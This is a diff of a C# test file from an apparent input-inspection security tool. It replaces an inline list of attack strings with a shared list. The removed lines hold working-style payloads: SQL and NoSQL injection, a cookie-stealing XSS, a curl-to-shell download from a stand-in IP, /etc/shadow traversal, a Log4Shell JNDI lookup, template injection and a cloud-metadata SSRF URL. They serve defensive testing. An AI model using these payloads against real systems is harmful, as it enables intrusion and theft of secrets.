@@ -8,17 +8,7 @@ namespace ServerlessShield.Tests.Inspection;
 // declared them text, so bytes that are not UTF-8 are not a finding; the text a handler can read out of them is.
 public class NonUtf8InputTests
 {
-    private static readonly string[] Attacks =
-    [
-        "' union select password from users --",
-        "<img src=x onerror=alert(document.cookie)>",
-        "; curl http://203.0.113.9/x | sh",
-        "../../../../etc/shadow",
-        "${jndi:ldap://203.0.113.9/a}",
-        "{{config.__class__.__init__.__globals__}}",
-        "http://169.254.169.254/latest/meta-data/",
-        "{\"$where\": \"sleep(5000)\"}",
-    ];
+    private static readonly string[] Attacks = EncodedContentAttacks.All;
 
     private static readonly string[] Prose =
     [
